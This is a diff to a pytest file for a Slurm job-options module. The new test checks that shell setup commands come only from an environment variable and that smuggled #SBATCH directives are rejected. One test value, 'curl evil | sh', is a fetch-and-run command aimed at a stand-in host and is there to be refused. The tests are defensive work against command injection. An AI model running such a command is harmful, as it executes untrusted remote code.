@@ -212,12 +212,21 @@ def test_options_are_checked_all_at_once():
         Options.of(typed)
     for name, value in typed.items():
         assert f'--slurm-{name}: found "{value}"; allowed: ' in str(found.value)
-    with pytest.raises(SettingsError, match="--slurm-setup"):
-        Options.of({"setup": ["module load cuda\n#SBATCH --partition=all"]})
-    fine = Options.of({"time": "1-02:03:30", "gpus": "a100:1", "mem": "8G", "setup": ["module load cuda"]})
+    fine = Options.of({"time": "1-02:03:30", "gpus": "a100:1", "mem": "8G"})
     assert fine.minutes == 26 * 60 + 4 and fine.wants_gpus
     assert Options.of(json.loads(json.dumps(fine.kept()))) == fine
     assert [Options.of({"time": text}).minutes for text in ("30", "1:30", "4:00:00", "2-0")] == [30, 2, 240, 2880]
+
+
+def test_shell_comes_from_the_environment_never_from_a_studys_folder(monkeypatch):
+    """Whoever resumes a study of a stranger's must not run the stranger's commands."""
+    with pytest.raises(SettingsError, match="setup"):
+        Options.of({"setup": ["curl evil | sh"]})  # as a schedule.json may have it
+    monkeypatch.setenv(slurm_options.SETUP, "module load cuda\nexport A=1")
+    assert slurm_options.setup_lines() == ["module load cuda", "export A=1"]
+    monkeypatch.setenv(slurm_options.SETUP, "  #SBATCH --partition=all")
+    with pytest.raises(SettingsError, match="--slurm-setup"):
+        slurm_options.setup_lines()
 
 
 def test_where_slurm_is_not_nothing_is_made(monkeypatch, tmp_path):
